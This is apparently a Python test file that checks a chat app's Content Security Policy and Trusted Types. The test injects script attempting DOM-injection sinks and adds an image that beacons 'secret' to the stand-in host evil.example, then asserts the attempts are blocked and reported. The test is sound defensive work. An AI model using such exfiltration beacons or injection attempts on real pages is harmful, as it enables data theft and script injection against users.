"""A breach of the content policy is kept from happening, and the operator gets to know of it."""

import httpx

from tests.browser.screen import Screen
from tests.fakes.app_server import AppServer
from tests.fakes.eventually import eventually
from tests.operations.test_metrics import value


async def test_a_breach_is_told_to_the_server(screen: Screen, server: AppServer) -> None:
    tries = """() => {
        const outcomes = [];
        for (const sink of [
            () => { document.body.innerHTML = "<b>x</b>"; },
            () => document.body.setAttribute("onclick", "x"),
            () => trustedTypes.createPolicy("another", {}),
            () => trustedTypes.createPolicy("htmx", {}),
            () => setTimeout("x"),
        ]) try { sink(); outcomes.push("done"); } catch (error) { outcomes.push(error.name); }
        document.body.append(Object.assign(document.createElement("img"), { src: "http://evil.example/?secret" }));
        return outcomes;
    }"""
    assert await screen.page.evaluate(tries) == ["TypeError"] * 5
    screen.complaints.clear()

    async with httpx.AsyncClient(base_url=server.url, trust_env=False, verify=False) as client:

        async def is_counted() -> bool:
            figures = (await client.get("/metrics")).text
            return all(
                value(figures, "open_chat_policy_breaches_total", directive=directive) > 0
                for directive in ("img-src", "require-trusted-types-for", "trusted-types")
            )

        await eventually(is_counted)
    assert "evil.example" in server.log()
    assert "secret" not in server.log()
